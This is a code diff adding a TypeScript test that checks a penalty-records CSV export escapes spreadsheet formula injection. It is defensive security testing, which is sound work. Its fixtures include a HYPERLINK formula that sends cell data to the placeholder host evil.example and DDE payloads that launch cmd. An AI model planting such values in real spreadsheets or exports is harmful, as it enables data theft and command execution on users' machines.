@@ -72,4 +72,32 @@ describeEachDatabase('open-data files', (current) => {
     expect(await changed.text()).toContain('罚款人民币六千元');
     expect(await openDataResponse(db, today, 'secrets.csv', null)).toBeNull();
   });
+
+  it('never write a text cell that a spreadsheet would run as a formula', async () => {
+    const { db } = current();
+    const dept = await createDepartment(db);
+    const company = await createCompany(db, '乐山市公式注入测试有限公司');
+    const attacks = {
+      violationType: '=HYPERLINK("http://evil.example/?"&A1,"点击查看")',
+      violationFacts: "+cmd|' /C calc'!A0",
+      legalBasis: '-2+3',
+      content: '@SUM(1+1)*cmd|" /C calc"!A0',
+    };
+    await createPenalty(db, company, dept, attacks);
+    const csv = await (await openDataResponse(db, today, 'penalties.csv', null))!.text();
+    const cells = parseCsvLine(csv.split('\r\n').find((l) => l.includes('乐山市公式注入测试有限公司'))!);
+    for (const attack of Object.values(attacks)) {
+      expect(cells).toContain(`'${attack}`);
+      expect(cells).not.toContain(attack);
+    }
+    for (const cell of cells) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
+  });
 });
+
+/** The cells of one RFC 4180 line (no line breaks inside cells in these fixtures). */
+function parseCsvLine(line: string): string[] {
+  const cells: string[] = [];
+  const re = /(?:^|,)(?:"((?:[^"]|"")*)"|([^,]*))/g;
+  for (const m of line.matchAll(re)) cells.push(m[1] !== undefined ? m[1].replaceAll('""', '"') : (m[2] ?? ''));
+  return cells;
+}
